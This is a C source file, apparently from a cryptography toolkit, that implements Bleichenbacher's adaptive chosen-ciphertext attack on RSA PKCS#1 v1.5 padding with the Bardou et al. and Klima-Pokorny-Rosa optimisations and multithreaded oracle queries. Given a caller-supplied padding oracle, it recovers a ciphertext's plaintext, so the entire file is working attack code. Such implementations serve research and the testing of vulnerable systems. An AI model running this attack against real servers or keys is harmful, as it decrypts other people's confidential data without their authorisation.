/* ts_bleich: Bleichenbacher's adaptive chosen-ciphertext attack (1998),
 * with the improvements of Bardou et al. (CRYPTO 2012): the first
 * interval trimmed by divisors of m0, step 2a skipping the values of s that
 * cannot give a conforming block, step 2b searched one interval at a time
 * ("parallel threads", Klima, Pokorny, Rosa, CHES 2003). Step 2c asks only
 * the s whose window holds an end of the interval, and cuts the interval
 * on "no" answers too when the oracle checks 00 02 and nothing else.
 * cfg->plain keeps to the 1998 algorithm.
 * Independent queries are asked in batches, spread over cfg->threads
 * threads; a batch is the same whatever the number of threads, so the
 * result and the query count are too. */
#include "ts_bleich.h"

#include <gmp.h>
#include <pthread.h>
#include <stdlib.h>
#include <string.h>

#include "ts_rsa.h"
#include "ts_secret.h"

#define BATCH 16       /* queries asked together: blinding, trimming, 2a, 2b */
#define MAX_THREADS 8
#define MAX_SKIP 65536 /* s a filtering cursor passes over before taking one anyway */
#define TRIM_T 16      /* trimmers u/t, u = t -+ 1, for 3 <= t <= TRIM_T */
#define TRIM_P 4096    /* then divisors t' p of m0 for the primes p < TRIM_P */

typedef struct {
    mpz_t a, b;
} interval;

/* The values of s one search tries for one interval, in increasing order:
 * for r = r, r + 1, ... the s with (r n + 2B) / b <= s <= (r n + 3B - 1) / a
 * (step 2c; with r from 1, the improved step 2a), or every s (linear). */
typedef struct {
    mpz_t r, s, hi;
    size_t iv;   /* the interval (index in M) */
    bool linear; /* the 1998 steps 2a and 2b: s, s + 1, ... */
    int filter;  /* which s: ALL, COVER, EDGE (see covers) */
} cursor;

enum { ALL, COVER, EDGE };

typedef struct state state;

typedef struct {
    pthread_t th;
    state *st;
    unsigned id;
    mpz_t x;
    uint8_t buf[TS_RSA_MAX_LEN];
} helper;

struct state {
    const ts_bleich_cfg *cfg;
    bool exact; /* "no" means: not 00 02 (cfg->exact_oracle, not plain) */
    size_t k;
    mpz_t n, e, c0, B, B2, B3, x, t1, t2, t3;
    uint8_t buf[TS_RSA_MAX_LEN];
    interval *m; /* the set M */
    size_t nm, cap;
    ts_bleich_progress p;
    uint64_t next_report;
    /* the batch: base * cand[i]^e mod n for i < job_n */
    mpz_t cand[BATCH];
    bool ans[BATCH];
    ts_err errs[BATCH];
    mpz_srcptr job_base;
    size_t job_n;
    /* the helper threads */
    unsigned threads; /* 1 + the helpers running */
    helper h[MAX_THREADS - 1];
    pthread_mutex_t mu;
    pthread_cond_t go, done;
    unsigned gen, busy;
    bool quit;
};

static void from_bytes(mpz_t x, const uint8_t *in, size_t n)
{
    mpz_set_ui(x, 0);
    if (n > 0) {
        mpz_import(x, n, 1, 1, 0, 0, in);
    }
}

static void to_fixed(const mpz_t x, uint8_t *out, size_t k)
{
    size_t need = (mpz_sizeinbase(x, 2) + 7) / 8;
    memset(out, 0, k);
    if (mpz_sgn(x) != 0 && need <= k) {
        size_t count = 0;
        mpz_export(out + (k - need), &count, 1, 1, 0, 0, x);
    }
}

static void report(state *st)
{
    const ts_bleich_cfg *cfg = st->cfg;
    if (cfg->progress == NULL) {
        return;
    }
    mpz_t w;
    mpz_init(w);
    unsigned widest = 0;
    for (size_t i = 0; i < st->nm; i++) {
        mpz_sub(w, st->m[i].b, st->m[i].a);
        unsigned bits = mpz_sgn(w) == 0 ? 0 : (unsigned)mpz_sizeinbase(w, 2);
        widest = bits > widest ? bits : widest;
    }
    mpz_clear(w);
    st->p.intervals = st->nm;
    st->p.width_bits = widest;
    cfg->progress(cfg->progress_ctx, &st->p);
}

/* --- the batch: its queries, spread over the threads --- */

/* Asks the oracle about the batch's queries id, id + step, ... */
static void run_share(state *st, unsigned id, unsigned step, mpz_t x, uint8_t *buf)
{
    const ts_bleich_cfg *cfg = st->cfg;
    for (size_t i = id; i < st->job_n; i += step) {
        mpz_powm(x, st->cand[i], st->e, st->n);
        mpz_mul(x, x, st->job_base);
        mpz_mod(x, x, st->n);
        to_fixed(x, buf, st->k);
        st->ans[i] = false;
        st->errs[i] = cfg->oracle(cfg->oracle_ctx, buf, st->k, &st->ans[i]);
    }
}

static void *helper_main(void *arg)
{
    helper *h = arg;
    state *st = h->st;
    unsigned seen = 0;
    pthread_mutex_lock(&st->mu);
    for (;;) {
        while (!st->quit && st->gen == seen) {
            pthread_cond_wait(&st->go, &st->mu);
        }
        if (st->quit) {
            break;
        }
        seen = st->gen;
        unsigned step = st->threads;
        pthread_mutex_unlock(&st->mu);
        run_share(st, h->id, step, h->x, h->buf);
        pthread_mutex_lock(&st->mu);
        if (--st->busy == 0) {
            pthread_cond_signal(&st->done);
        }
    }
    pthread_mutex_unlock(&st->mu);
    return NULL;
}

/* Starts up to cfg->threads - 1 helpers; fewer when the system refuses. */
static void pool_start(state *st)
{
    unsigned want = st->cfg->threads > MAX_THREADS ? MAX_THREADS : st->cfg->threads;
    st->threads = 1;
    if (want < 2) {
        return;
    }
    pthread_mutex_init(&st->mu, NULL);
    pthread_cond_init(&st->go, NULL);
    pthread_cond_init(&st->done, NULL);
    for (unsigned i = 0; i + 1 < want; i++) {
        helper *h = &st->h[i];
        h->st = st;
        h->id = i + 1;
        mpz_init(h->x);
        if (pthread_create(&h->th, NULL, helper_main, h) != 0) {
            mpz_clear(h->x);
            break;
        }
        st->threads++;
    }
}

static void pool_stop(state *st)
{
    if (st->cfg->threads < 2) {
        return;
    }
    pthread_mutex_lock(&st->mu);
    st->quit = true;
    pthread_cond_broadcast(&st->go);
    pthread_mutex_unlock(&st->mu);
    for (unsigned i = 0; i + 1 < st->threads; i++) {
        pthread_join(st->h[i].th, NULL);
        mpz_clear(st->h[i].x);
    }
    pthread_cond_destroy(&st->go);
    pthread_cond_destroy(&st->done);
    pthread_mutex_destroy(&st->mu);
}

/* Asks about base * cand[i]^e mod n for i < count: ans[i]. TS_ERR_TIMEOUT
 * (after asking what the limit allows) past max_queries. */
static ts_err batch(state *st, mpz_srcptr base, size_t count)
{
    const ts_bleich_cfg *cfg = st->cfg;
    bool cut = false;
    if (cfg->max_queries > 0) {
        TS_ENSURE(st->p.queries < cfg->max_queries, TS_ERR_TIMEOUT);
        if (count > cfg->max_queries - st->p.queries) {
            count = (size_t)(cfg->max_queries - st->p.queries);
            cut = true;
        }
    }
    st->job_base = base;
    st->job_n = count;
    if (st->threads > 1 && count > 1) {
        pthread_mutex_lock(&st->mu);
        st->busy = st->threads - 1;
        st->gen++;
        pthread_cond_broadcast(&st->go);
        pthread_mutex_unlock(&st->mu);
        run_share(st, 0, st->threads, st->x, st->buf);
        pthread_mutex_lock(&st->mu);
        while (st->busy > 0) {
            pthread_cond_wait(&st->done, &st->mu);
        }
        pthread_mutex_unlock(&st->mu);
    } else {
        run_share(st, 0, 1, st->x, st->buf);
    }
    for (size_t i = 0; i < count; i++) {
        TS_GUARD(st->errs[i]);
    }
    st->p.queries += count;
    if (st->p.queries >= st->next_report) {
        uint64_t every = cfg->progress_every > 0 ? cfg->progress_every : 1024;
        st->next_report = (st->p.queries / every + 1) * every;
        report(st);
    }
    return cut ? TS_ERR_TIMEOUT : TS_OK;
}

/* The first i < count with ans[i], or count. */
static size_t first_yes(const state *st, size_t count)
{
    size_t i = 0;
    while (i < count && !st->ans[i]) {
        i++;
    }
    return i;
}

/* --- the set M --- */

static ts_err add_interval(state *st, const mpz_t lo, const mpz_t hi)
{
    if (st->nm == st->cap) {
        size_t cap = st->cap == 0 ? 4 : st->cap * 2;
        interval *m = realloc(st->m, cap * sizeof(*m));
        TS_ENSURE(m != NULL, TS_ERR_NOMEM);
        st->m = m;
        st->cap = cap;
    }
    mpz_init_set(st->m[st->nm].a, lo);
    mpz_init_set(st->m[st->nm].b, hi);
    st->nm++;
    return TS_OK;
}

static void clear_intervals(interval *m, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        mpz_clears(m[i].a, m[i].b, NULL);
    }
}

static int by_start(const void *x, const void *y)
{
    const interval *a = x, *b = y;
    return mpz_cmp(a->a, b->a);
}

/* Sorts M and merges the intervals that overlap. */
static void merge(state *st)
{
    if (st->nm < 2) {
        return;
    }
    qsort(st->m, st->nm, sizeof(*st->m), by_start);
    size_t out = 0;
    for (size_t i = 1; i < st->nm; i++) {
        if (mpz_cmp(st->m[i].a, st->m[out].b) <= 0) {
            if (mpz_cmp(st->m[i].b, st->m[out].b) > 0) {
                mpz_set(st->m[out].b, st->m[i].b);
            }
            mpz_clears(st->m[i].a, st->m[i].b, NULL);
        } else {
            out++;
            if (out != i) {
                st->m[out] = st->m[i];
            }
        }
    }
    st->nm = out + 1;
}

/* Step 3: narrows M with the new s. */
static ts_err narrow(state *st, const mpz_t s)
{
    interval *old = st->m;
    size_t n_old = st->nm;
    st->m = NULL;
    st->nm = st->cap = 0;
    mpz_t r, r_hi, t, lo, hi;
    mpz_inits(r, r_hi, t, lo, hi, NULL);
    ts_err err = TS_OK;
    for (size_t i = 0; i < n_old && err == TS_OK; i++) {
        /* r from ceil((a s - 3B + 1) / n) to floor((b s - 2B) / n) */
        mpz_mul(t, old[i].a, s);
        mpz_sub(t, t, st->B3);
        mpz_add_ui(t, t, 1);
        mpz_cdiv_q(r, t, st->n);
        mpz_mul(t, old[i].b, s);
        mpz_sub(t, t, st->B2);
        mpz_fdiv_q(r_hi, t, st->n);
        for (; mpz_cmp(r, r_hi) <= 0 && err == TS_OK; mpz_add_ui(r, r, 1)) {
            mpz_mul(t, r, st->n);
            mpz_add(t, t, st->B2);
            mpz_cdiv_q(lo, t, s);
            if (mpz_cmp(lo, old[i].a) < 0) {
                mpz_set(lo, old[i].a);
            }
            mpz_mul(t, r, st->n);
            mpz_add(t, t, st->B3);
            mpz_sub_ui(t, t, 1);
            mpz_fdiv_q(hi, t, s);
            if (mpz_cmp(hi, old[i].b) > 0) {
                mpz_set(hi, old[i].b);
            }
            if (mpz_cmp(lo, hi) <= 0) {
                err = add_interval(st, lo, hi);
            }
        }
    }
    mpz_clears(r, r_hi, t, lo, hi, NULL);
    clear_intervals(old, n_old);
    free(old);
    merge(st);
    TS_ENSURE(err != TS_OK || st->nm > 0, TS_ERR_PADDING); /* an oracle that lied */
    return err;
}

/* --- the searches for the next s --- */

/* A cursor over interval iv from r0 (2c: r0 from s; 2a: r0 = 1), s >= s_min. */
static void cursor_init(cursor *c, size_t iv, const mpz_t r0, const mpz_t s_min, bool linear,
                        int filter)
{
    mpz_init_set(c->r, r0);
    mpz_sub_ui(c->r, c->r, 1);
    mpz_init_set(c->s, s_min);
    mpz_init_set(c->hi, s_min);
    if (!linear) {
        mpz_sub_ui(c->hi, c->hi, 1); /* the first call computes r0's range */
    }
    c->iv = iv;
    c->linear = linear;
    c->filter = filter;
}

static void cursor_clear(cursor *c)
{
    mpz_clears(c->r, c->s, c->hi, NULL);
}

/* Whether s's window for r, the m of [a, b] that s takes to [r n + 2B,
 * r n + 3B), holds at least half of what a window can (B / s, or the whole
 * interval), and with EDGE an end of the interval, so that a "no" cuts it
 * too. When n / m0 is close to a simple fraction, the windows of
 * consecutive r drift slowly past m0: asking the ones that cannot tell
 * much costs thousands of queries for nothing. */
static bool covers(state *st, const interval *iv, const mpz_t r, const mpz_t s, int filter)
{
    mpz_mul(st->t1, r, st->n);
    mpz_add(st->t2, st->t1, st->B3);
    mpz_sub_ui(st->t2, st->t2, 1);
    mpz_fdiv_q(st->t2, st->t2, s);
    bool edge = mpz_cmp(st->t2, iv->b) >= 0;
    if (edge) {
        mpz_set(st->t2, iv->b);
    }
    mpz_add(st->t1, st->t1, st->B2);
    mpz_cdiv_q(st->t1, st->t1, s);
    if (mpz_cmp(st->t1, iv->a) <= 0) {
        edge = true;
        mpz_set(st->t1, iv->a);
    }
    if (filter == EDGE && !edge) {
        return false;
    }
    mpz_sub(st->t2, st->t2, st->t1); /* what this window holds, minus 1 */
    mpz_mul_2exp(st->t2, st->t2, 1);
    mpz_fdiv_q(st->t1, st->B, s);
    mpz_sub(st->t3, iv->b, iv->a);
    return mpz_cmp(st->t2, mpz_cmp(st->t1, st->t3) < 0 ? st->t1 : st->t3) >= 0;
}

/* The cursor's next s into out. */
static void cursor_next(state *st, cursor *c, mpz_t out)
{
    const interval *iv = &st->m[c->iv];
    for (unsigned skipped = 0;; skipped++) {
        while (!c->linear && mpz_cmp(c->s, c->hi) > 0) {
            mpz_add_ui(c->r, c->r, 1);
            mpz_mul(st->t1, c->r, st->n);
            mpz_add(st->t2, st->t1, st->B3);
            mpz_sub_ui(st->t2, st->t2, 1);
            mpz_fdiv_q(c->hi, st->t2, iv->a); /* s <= (r n + 3B - 1) / a */
            mpz_add(st->t1, st->t1, st->B2);
            mpz_cdiv_q(st->t1, st->t1, iv->b); /* s >= (r n + 2B) / b */
            if (mpz_cmp(st->t1, c->s) > 0) {
                mpz_set(c->s, st->t1);
            }
        }
        if (c->filter == ALL || skipped >= MAX_SKIP || covers(st, iv, c->r, c->s, c->filter)) {
            break;
        }
        mpz_add_ui(c->s, c->s, 1);
    }
    mpz_set(out, c->s);
    mpz_add_ui(c->s, c->s, 1);
}

/* Steps 2a, 2b, 2c: the first conforming s the cursors give, asked in
 * batches of up to per_batch, the cursors taking turns. */
static ts_err search(state *st, cursor *cur, size_t ncur, size_t per_batch, mpz_t s)
{
    for (;;) {
        for (size_t i = 0; i < per_batch; i++) {
            cursor_next(st, &cur[i % ncur], st->cand[i]);
        }
        TS_GUARD(batch(st, st->c0, per_batch));
        size_t hit = first_yes(st, per_batch);
        if (hit < per_batch) {
            mpz_set(s, st->cand[hit]);
            return TS_OK;
        }
    }
}

/* Step 2a: from j = 1 (s1 >= (n + 2B) / b), skipping holes (Bardou et al.,
 * 4.2) unless plain: then s = (n + 2B) / 3B, +1, ... as in 1998. */
static ts_err step_2a(state *st, mpz_t s)
{
    const ts_bleich_cfg *cfg = st->cfg;
    mpz_t one, lo;
    mpz_init_set_ui(one, 1);
    mpz_init(lo);
    mpz_add(lo, st->n, st->B2);
    mpz_cdiv_q(lo, lo, cfg->plain ? st->B3 : st->m[0].b);
    cursor c;
    cursor_init(&c, 0, one, lo, cfg->plain, ALL);
    ts_err err = search(st, &c, 1, BATCH, s);
    cursor_clear(&c);
    mpz_clears(one, lo, NULL);
    return err;
}

/* The start of step 2c for interval iv after s: r >= 2 (b s - 2B) / n. */
static void r_2c(state *st, const interval *iv, const mpz_t s, mpz_t r)
{
    mpz_mul(st->t1, iv->b, s);
    mpz_sub(st->t1, st->t1, st->B2);
    mpz_mul_2exp(st->t1, st->t1, 1);
    mpz_cdiv_q(r, st->t1, st->n);
}

/* Step 2b (|M| > 1): one step 2c per interval, taking turns (plain: s + 1,
 * s + 2, ... as in 1998). */
static ts_err step_2b(state *st, mpz_t s)
{
    mpz_t r, from;
    mpz_inits(r, from, NULL);
    mpz_add_ui(from, s, 1);
    size_t ncur = st->cfg->plain ? 1 : st->nm;
    cursor *cur = malloc(ncur * sizeof(*cur));
    ts_err err = cur == NULL ? TS_ERR_NOMEM : TS_OK;
    for (size_t i = 0; err == TS_OK && i < ncur; i++) {
        r_2c(st, &st->m[i], s, r);
        cursor_init(&cur[i], i, r, from, st->cfg->plain, st->cfg->plain ? ALL : COVER);
    }
    if (err == TS_OK) {
        err = search(st, cur, ncur, BATCH, s);
    }
    for (size_t i = 0; cur != NULL && i < ncur; i++) {
        cursor_clear(&cur[i]);
    }
    free(cur);
    mpz_clears(r, from, NULL);
    return err;
}

/* A "no" for s in step 2c: m0 is in none of s's windows [(r n + 2B) / s,
 * (r n + 3B - 1) / s]; those that hold an end of M's one interval cut it. */
static void exclude(state *st, const mpz_t s)
{
    interval *iv = &st->m[0];
    mpz_t r, r_hi, lo, hi;
    mpz_inits(r, r_hi, lo, hi, NULL);
    mpz_mul(r, iv->a, s);
    mpz_sub(r, r, st->B3);
    mpz_add_ui(r, r, 1);
    mpz_cdiv_q(r, r, st->n);
    mpz_mul(r_hi, iv->b, s);
    mpz_sub(r_hi, r_hi, st->B2);
    mpz_fdiv_q(r_hi, r_hi, st->n);
    for (; mpz_cmp(r, r_hi) <= 0; mpz_add_ui(r, r, 1)) {
        mpz_mul(st->t1, r, st->n);
        mpz_add(lo, st->t1, st->B2);
        mpz_cdiv_q(lo, lo, s);
        mpz_add(hi, st->t1, st->B3);
        mpz_sub_ui(hi, hi, 1);
        mpz_fdiv_q(hi, hi, s);
        if (mpz_cmp(lo, iv->a) <= 0 && mpz_cmp(hi, iv->a) >= 0) {
            mpz_add_ui(iv->a, hi, 1);
        } else if (mpz_cmp(hi, iv->b) >= 0 && mpz_cmp(lo, iv->b) <= 0) {
            mpz_sub_ui(iv->b, lo, 1);
        }
    }
    mpz_clears(r, r_hi, lo, hi, NULL);
}

/* Step 2c (|M| = 1): one query at a time, each likely to succeed; with an
 * exact oracle the answers "no" narrow M too. *done when that leaves one
 * value. */
static ts_err step_2c(state *st, mpz_t s, bool *done)
{
    mpz_t r, zero;
    mpz_inits(r, zero, NULL);
    r_2c(st, &st->m[0], s, r);
    cursor c;
    cursor_init(&c, 0, r, zero, false, st->cfg->plain ? ALL : st->exact ? EDGE : COVER);
    ts_err err = TS_OK;
    *done = false;
    while (err == TS_OK && !*done) {
        cursor_next(st, &c, st->cand[0]);
        err = batch(st, st->c0, 1);
        if (err == TS_OK && st->ans[0]) {
            mpz_set(s, st->cand[0]);
            break;
        }
        if (err == TS_OK && st->exact) {
            exclude(st, st->cand[0]);
            int cmp = mpz_cmp(st->m[0].a, st->m[0].b);
            err = cmp > 0 ? TS_ERR_PADDING : TS_OK; /* an oracle that lied */
            *done = cmp == 0;
        }
    }
    cursor_clear(&c);
    mpz_clears(r, zero, NULL);
    return err;
}

/* --- trimming M0 (Bardou et al., 4.1) ---
 * If m0 and m0 u / t mod n are both conforming (u, t coprime, 2/3 < u/t <
 * 3/2, u and t <= n / 3B), then m0 u = y t exactly: t divides m0, and
 * 2B t / u <= m0 < 3B t / u. */

/* cand[i] = u / t mod n; false when t has no inverse. */
static bool trimmer(state *st, size_t i, unsigned long u, unsigned long t)
{
    mpz_set_ui(st->t1, t);
    if (mpz_invert(st->cand[i], st->t1, st->n) == 0) {
        return false;
    }
    mpz_mul_ui(st->cand[i], st->cand[i], u);
    mpz_mod(st->cand[i], st->cand[i], st->n);
    return true;
}

static unsigned long gcd_ul(unsigned long a, unsigned long b)
{
    while (b != 0) {
        unsigned long r = a % b;
        a = b;
        b = r;
    }
    return a;
}

/* Phase A: u = t - 1 and t + 1 for small t; *tp = the lcm of the t found. */
static ts_err trim_small(state *st, unsigned long cap, unsigned long *tp)
{
    unsigned long us[2 * TRIM_T], ts[2 * TRIM_T];
    size_t all = 0;
    for (unsigned long t = 3; t <= TRIM_T && t <= cap; t++) {
        for (unsigned long u = t - 1; u <= t + 1; u += 2) {
            if (3 * u > 2 * t && 2 * u < 3 * t && gcd_ul(u, t) == 1) {
                us[all] = u;
                ts[all++] = t;
            }
        }
    }
    for (size_t from = 0; from < all; from += BATCH) {
        size_t n = 0, idx[BATCH];
        for (size_t i = from; i < all && i < from + BATCH; i++) {
            if (trimmer(st, n, us[i], ts[i])) {
                idx[n++] = i;
            }
        }
        TS_GUARD(batch(st, st->c0, n));
        for (size_t i = 0; i < n; i++) {
            unsigned long t = ts[idx[i]], l = *tp / gcd_ul(*tp, t) * t;
            if (st->ans[i] && l <= cap) {
                *tp = l;
            }
        }
    }
    return TS_OK;
}

static bool is_prime(unsigned long p)
{
    for (unsigned long d = 2; d * d <= p; d++) {
        if (p % d == 0) {
            return false;
        }
    }
    return p >= 2;
}

/* Phase B: does t' p divide m0 (u = t' p - 1)? For each prime p < TRIM_P,
 * again while it does; *tp grows. */
static ts_err trim_primes(state *st, unsigned long cap, unsigned long *tp)
{
    unsigned long again[BATCH], ps[BATCH], next = 2;
    size_t n_again = 0;
    while (n_again > 0 || next < TRIM_P) {
        size_t n = 0;
        for (size_t i = 0; i < n_again; i++) {
            ps[n++] = again[i];
        }
        n_again = 0;
        for (; n < BATCH && next < TRIM_P; next++) {
            if (is_prime(next)) {
                ps[n++] = next;
            }
        }
        size_t m = 0;
        for (size_t i = 0; i < n; i++) {
            unsigned long d = *tp * ps[i];
            if (d > 3 && d <= cap && trimmer(st, m, d - 1, d)) { /* 2/3 < u/t */
                ps[m++] = ps[i];
            }
        }
        if (m == 0) {
            continue;
        }
        TS_GUARD(batch(st, st->c0, m));
        for (size_t i = 0; i < m; i++) {
            if (st->ans[i] && *tp * ps[i] <= cap) {
                *tp *= ps[i];
                again[n_again++] = ps[i];
            }
        }
    }
    return TS_OK;
}

/* With t' | m0: the smallest u (ulo) and the largest (uhi) with m0 u / t'
 * conforming, by two interleaved binary searches. */
static ts_err trim_bounds(state *st, unsigned long tp, unsigned long *ulo, unsigned long *uhi)
{
    /* lo[0] < u_min <= hi[0]; lo[1] <= u_max < hi[1] */
    unsigned long lo[2] = {2 * tp / 3, tp}, hi[2] = {tp, (3 * tp + 1) / 2}, mid[2];
    while (hi[0] - lo[0] > 1 || hi[1] - lo[1] > 1) {
        size_t n = 0;
        int which[2];
        for (int w = 0; w < 2; w++) {
            if (hi[w] - lo[w] > 1) {
                mid[w] = lo[w] + (hi[w] - lo[w]) / 2;
                TS_ENSURE(trimmer(st, n, mid[w], tp), TS_ERR_RSA_KEY);
                which[n++] = w;
            }
        }
        TS_GUARD(batch(st, st->c0, n));
        for (size_t i = 0; i < n; i++) {
            int w = which[i];
            bool yes = st->ans[i];
            if (w == 0) {
                *(yes ? &hi[0] : &lo[0]) = mid[0];
            } else {
                *(yes ? &lo[1] : &hi[1]) = mid[1];
            }
        }
    }
    *ulo = hi[0];
    *uhi = lo[1];
    return TS_OK;
}

/* Trims M = {[2B, 3B - 1]} to m0's multiples of t' within the bounds the
 * trimmers give. */
static ts_err trim(state *st)
{
    /* u, t <= n / 3B, and u up to 3t'/2 in the binary search */
    mpz_fdiv_q(st->t1, st->n, st->B3);
    unsigned long ulim = mpz_fits_ulong_p(st->t1) ? mpz_get_ui(st->t1) : 1000000000UL;
    unsigned long cap = 2 * ulim / 3, tp = 1, ulo = 1, uhi = 1;
    if (cap < 3) {
        return TS_OK;
    }
    st->p.phase = "trim";
    report(st);
    TS_GUARD(trim_small(st, cap, &tp));
    TS_GUARD(trim_primes(st, cap, &tp));
    if (tp < 3) {
        return TS_OK; /* no trimmer found: M0 stays */
    }
    TS_GUARD(trim_bounds(st, tp, &ulo, &uhi));
    mpz_t lo, hi, t;
    mpz_inits(lo, hi, t, NULL);
    /* x = m0 / t': 2B <= x ulo and x uhi < 3B ("yes"); with an exact
     * oracle also x (ulo - 1) < 2B and x (uhi + 1) >= 3B ("no") */
    mpz_cdiv_q_ui(lo, st->B2, ulo);
    mpz_sub_ui(hi, st->B3, 1);
    mpz_fdiv_q_ui(hi, hi, uhi);
    if (st->exact) {
        mpz_cdiv_q_ui(t, st->B3, uhi + 1);
        if (mpz_cmp(t, lo) > 0) {
            mpz_set(lo, t);
        }
        mpz_sub_ui(t, st->B2, 1);
        mpz_fdiv_q_ui(t, t, ulo - 1);
        if (mpz_cmp(t, hi) < 0) {
            mpz_set(hi, t);
        }
    }
    mpz_mul_ui(lo, lo, tp);
    mpz_mul_ui(hi, hi, tp);
    if (mpz_cmp(lo, st->m[0].a) > 0) {
        mpz_set(st->m[0].a, lo);
    }
    if (mpz_cmp(hi, st->m[0].b) < 0) {
        mpz_set(st->m[0].b, hi);
    }
    mpz_clears(lo, hi, t, NULL);
    TS_ENSURE(mpz_cmp(st->m[0].a, st->m[0].b) <= 0, TS_ERR_PADDING); /* an oracle that lied */
    report(st);
    return TS_OK;
}

/* --- the attack --- */

/* Step 1: c0 = c s0^e conforming; s0 = 1 when c already is. Blinding
 * values are drawn a batch at a time. */
static ts_err blind(state *st, const mpz_t c, mpz_t s0)
{
    const ts_bleich_cfg *cfg = st->cfg;
    mpz_set(st->c0, c);
    mpz_set_ui(s0, 1);
    mpz_set_ui(st->cand[0], 1);
    TS_GUARD(batch(st, c, 1));
    if (st->ans[0]) {
        return TS_OK;
    }
    TS_ENSURE(cfg->blind && cfg->rng != NULL, TS_ERR_PADDING);
    st->p.phase = "blinding";
    for (;;) {
        for (size_t i = 0; i < BATCH; i++) {
            do {
                ts_rng_bytes(cfg->rng, st->buf, st->k);
                from_bytes(st->cand[i], st->buf, st->k);
                mpz_mod(st->cand[i], st->cand[i], st->n);
            } while (mpz_cmp_ui(st->cand[i], 1) <= 0);
        }
        TS_GUARD(batch(st, c, BATCH));
        size_t hit = first_yes(st, BATCH);
        if (hit < BATCH) {
            mpz_set(s0, st->cand[hit]);
            mpz_powm(st->c0, s0, st->e, st->n);
            mpz_mul(st->c0, st->c0, c);
            mpz_mod(st->c0, st->c0, st->n);
            return TS_OK;
        }
    }
}

static ts_err attack(state *st, const mpz_t c, mpz_t result)
{
    mpz_t s0, s, lo, hi;
    mpz_inits(s0, s, lo, hi, NULL);
    st->p.phase = "1";
    ts_err err = blind(st, c, s0);
    mpz_set(lo, st->B2);
    mpz_sub_ui(hi, st->B3, 1);
    if (err == TS_OK) {
        err = add_interval(st, lo, hi);
    }
    if (err == TS_OK && !st->cfg->plain) {
        err = trim(st);
    }
    if (err == TS_OK) {
        st->p.phase = "2a";
        report(st);
        err = step_2a(st, s);
    }
    bool done = false;
    while (err == TS_OK && !done) {
        st->p.iteration++;
        err = narrow(st, s);
        report(st);
        if (err != TS_OK || (st->nm == 1 && mpz_cmp(st->m[0].a, st->m[0].b) == 0)) {
            break;
        }
        st->p.phase = st->nm > 1 ? "2b" : "2c";
        err = st->nm > 1 ? step_2b(st, s) : step_2c(st, s, &done);
    }
    if (err == TS_OK && mpz_invert(s0, s0, st->n) == 0) {
        err = TS_ERR_RSA_KEY;
    }
    if (err == TS_OK) { /* step 4: m = a s0^-1 mod n */
        mpz_mul(result, st->m[0].a, s0);
        mpz_mod(result, result, st->n);
        st->p.phase = "done";
        report(st);
    }
    mpz_clears(s0, s, lo, hi, NULL);
    return err;
}

ts_err ts_bleich_attack(const ts_bleich_cfg *cfg, const uint8_t *c, size_t c_len, ts_buf *out,
                        uint64_t *queries)
{
    TS_ENSURE(cfg != NULL && cfg->oracle != NULL && cfg->n != NULL && cfg->e != NULL && c != NULL &&
                  out != NULL,
              TS_ERR_ARG);
    state *st = calloc(1, sizeof(*st));
    TS_ENSURE(st != NULL, TS_ERR_NOMEM);
    st->cfg = cfg;
    st->exact = cfg->exact_oracle && !cfg->plain;
    mpz_inits(st->n, st->e, st->c0, st->B, st->B2, st->B3, st->x, st->t1, st->t2, st->t3, NULL);
    for (size_t i = 0; i < BATCH; i++) {
        mpz_init(st->cand[i]);
    }
    from_bytes(st->n, cfg->n, cfg->n_len);
    from_bytes(st->e, cfg->e, cfg->e_len);
    st->k = (mpz_sizeinbase(st->n, 2) + 7) / 8;
    st->next_report = cfg->progress_every > 0 ? cfg->progress_every : 1024;
    bool sized = st->k >= 16 && st->k <= TS_RSA_MAX_LEN && mpz_odd_p(st->n);
    ts_err err = sized ? TS_OK : TS_ERR_RSA_SIZE;
    mpz_t cc, m;
    mpz_inits(cc, m, NULL);
    from_bytes(cc, c, c_len);
    if (err == TS_OK && mpz_cmp(cc, st->n) >= 0) {
        err = TS_ERR_RSA_RANGE;
    }
    if (err == TS_OK) {
        /* B = 2^(8(k-2)): 2B <= m < 3B for a block starting 00 02 */
        mpz_setbit(st->B, 8 * (st->k - 2));
        mpz_setbit(st->B2, 8 * (st->k - 2) + 1);
        mpz_setbit(st->B3, 8 * (st->k - 2));
        mpz_add(st->B3, st->B3, st->B2);
        st->p.total_bits = (unsigned)(8 * (st->k - 2));
        pool_start(st);
        err = attack(st, cc, m);
        pool_stop(st);
    }
    if (err == TS_OK) {
        to_fixed(m, st->buf, st->k);
        err = ts_buf_write_bytes(out, st->buf, st->k);
    }
    if (queries != NULL) {
        *queries = st->p.queries;
    }
    ts_secret_wipe(st->buf, sizeof(st->buf));
    clear_intervals(st->m, st->nm);
    free(st->m);
    for (size_t i = 0; i < BATCH; i++) {
        mpz_clear(st->cand[i]);
    }
    mpz_clears(st->n, st->e, st->c0, st->B, st->B2, st->B3, st->x, st->t1, st->t2, st->t3, cc, m,
                NULL);
    free(st);
    return err;
}
